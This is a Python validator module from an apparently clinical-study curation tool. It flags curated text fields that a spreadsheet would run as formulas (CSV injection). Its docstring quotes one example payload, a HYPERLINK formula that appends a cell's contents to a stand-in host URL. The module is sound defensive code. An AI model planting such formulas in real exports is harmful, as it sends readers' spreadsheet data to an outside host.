"""Curated text that a spreadsheet would run as a formula is an error, located like every
other problem: a study acronym ``=HYPERLINK("http://x.example/?"&A1,"CLEOPATRA")`` would
reach every CSV download and run when a reader opens it (CSV/formula injection).

One rule (``model.formulas``) over every text field of every curated file a view is made
from: the studies, the sources, the vocabularies and the releases. The exports neutralise such
a text anyway (a database built by other means), but a curator should never have to rely on it.
"""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import Any

from ..model.classes import is_record
from ..model.formulas import FORMULA_STARTS, reads_as_formula
from ..model.registry import field_aliases
from ..util.terminal import printable
from .corpus import (
    AE_TERMS_FILE,
    DRUGS_FILE,
    ENDPOINTS_FILE,
    RELEASES_FILE,
    SOURCES_FILE,
    Corpus,
    Problem,
    Reporter,
    StudyDoc,
)
from .yamlfile import PathKey

_SHOWN = 40  # characters of the offending text quoted in the message
EXPECTED = ("text that does not start with =, +, -, @, a tab or a line break (reword it: \"minus 2\", "
            "\"at week 6\"); a number as printed such as -0.5 is fine")


def suspect_texts(value: Any, loc: tuple[PathKey, ...] = ()) -> list[tuple[tuple[PathKey, ...], str]]:
    """The texts in a parsed record or file that start as a formula does, each with its path as
    the YAML file spells it (a field's alias, such as a drug's ``class``). Numbers, even as
    printed, are not texts here. One walk, no generator per value: a load of 1,000 studies
    looks at some two million values."""
    found: list[tuple[tuple[PathKey, ...], str]] = []
    if isinstance(value, str):
        if value.startswith(FORMULA_STARTS):
            found.append((loc, value))
    else:
        _walk(value, loc, found)
    return found


def _walk(value: Any, loc: tuple[PathKey, ...], found: list[tuple[tuple[PathKey, ...], str]]) -> None:
    pairs: Iterable[tuple[PathKey, Any]]
    if is_record(value):
        pairs = ((alias, getattr(value, name, None)) for name, alias in field_aliases(type(value)))
    elif isinstance(value, list):
        pairs = enumerate(value)
    elif isinstance(value, dict):
        pairs = value.items()
    else:
        return
    for key, item in pairs:
        if isinstance(item, str):
            if item.startswith(FORMULA_STARTS):
                found.append((loc + (key,), item))
        elif item is not None and not isinstance(item, int | float):
            _walk(item, loc + (key,), found)


def _check(report: Reporter, value: Any, loc: tuple[PathKey, ...]) -> None:
    for where, text in suspect_texts(value, loc):
        if reads_as_formula(text):
            shown = text if len(text) <= _SHOWN else text[:_SHOWN] + "…"
            report("error", where, f"'{printable(shown)}' starts with {printable(text[0])!r}: a spreadsheet "
                   "would run it as a formula", EXPECTED)


def check(corpus: Corpus) -> list[Problem]:
    """The curated texts a spreadsheet would read as formulas, each with its file and line."""
    problems: list[Problem] = []
    for rel, section, items in ((SOURCES_FILE, "sources", corpus.sources),
                                (ENDPOINTS_FILE, "endpoints", corpus.endpoints),
                                (DRUGS_FILE, "drugs", corpus.drugs),
                                (AE_TERMS_FILE, "terms", corpus.ae_terms),
                                (RELEASES_FILE, "releases", corpus.releases)):
        report = Reporter(rel, corpus.documents.get(rel), Path(rel).stem)
        _check(report, items, (section,))
        problems.extend(report.problems)
    for entry in corpus.studies:
        problems.extend(study_problems(entry, corpus.root))
    return problems


def study_problems(entry: StudyDoc, root: Path) -> list[Problem]:
    report = Reporter(str(entry.document.path.relative_to(root)), entry.document,
                      entry.study.id or entry.document.path.stem)
    _check(report, entry.study, ())
    return report.problems
